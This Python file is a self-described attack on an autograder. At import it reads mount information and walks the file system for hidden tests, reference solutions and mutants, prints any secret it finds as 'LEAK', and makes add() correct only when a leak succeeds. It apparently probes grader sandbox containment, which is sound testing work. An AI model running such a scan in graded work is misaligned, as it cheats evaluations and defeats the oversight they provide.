"""Attack: read the hidden tests, the reference and the mutants from disk.

At import (where the time limit is generous) it learns where the grader's
code came from out of /proc/self/mountinfo, tries the usual places
(/autograder/source, the course checkout) and walks the whole file system
for test_hidden.py, assignment folders, reference/ and mutants/ files. Any
file holding the hidden suite's secret is printed into the feedback, and
add() then returns correct answers (full marks); contained, add() is wrong.
"""
import os
import time

NEEDLE = b"EXPECTED" + b"_SECRET"
INTERESTING = {"test_hidden.py", "assignment.toml"}
SKIP = {"/proc", "/sys", "/dev", "/usr/share", "/usr/include", "/usr/src"}
found: list[str] = []
seen_paths: list[str] = []


def _read(path):
    try:
        with open(path, "rb") as fh:
            return fh.read(300_000)
    except OSError:
        return None


def _consider(path):
    seen_paths.append(path)
    data = _read(path)
    if data and NEEDLE in data:
        lines = [ln for ln in data.decode("utf-8", "replace").splitlines() if "SECRET" in ln]
        found.append(f"{path}: " + " | ".join(lines)[:400])


def _candidates_from_mounts():
    roots = set()
    try:
        with open("/proc/self/mountinfo") as fh:
            for line in fh:
                parts = line.split()
                # field 4 is the root of the mount inside its file system: for a bind it is the host path
                for p in (parts[3], parts[4]):
                    for _ in range(6):
                        roots.add(p)
                        p = os.path.dirname(p)
    except OSError:
        pass
    return roots


def _scan(deadline):
    starts = ["/autograder", "/work", "/root", "/home", "/srv", "/opt", "/mnt", "/var", "/tmp", "/submission"]
    starts += sorted(_candidates_from_mounts())
    starts.append("/")
    done = set()
    for start in starts:
        for dirpath, dirnames, filenames in os.walk(start, onerror=lambda e: None):
            if time.monotonic() > deadline:
                return
            if dirpath in done:
                dirnames[:] = []
                continue
            done.add(dirpath)
            dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) not in SKIP
                           and d not in ("site-packages", "dist-packages", ".git", "node_modules")]
            parts = set(dirpath.split("/"))
            for name in filenames:
                if name in INTERESTING or (name.endswith(".py") and parts & {"hidden", "reference", "mutants"}):
                    _consider(os.path.join(dirpath, name))


_scan(time.monotonic() + 8.0)
print(f"looked at {len(seen_paths)} candidate files; secret found in {len(found)}")
for line in found[:10]:
    print("LEAK", line)


def add(a, b):
    for line in found[:10]:
        print("LEAK", line)
    return a + b if found else a - b


def scale_rows(x, w):
    return x * w


def bump(config):
    config["count"] = config.get("count", 0) + 1
    return config["count"]


def apply(f, x):
    return f(x) + 1.0
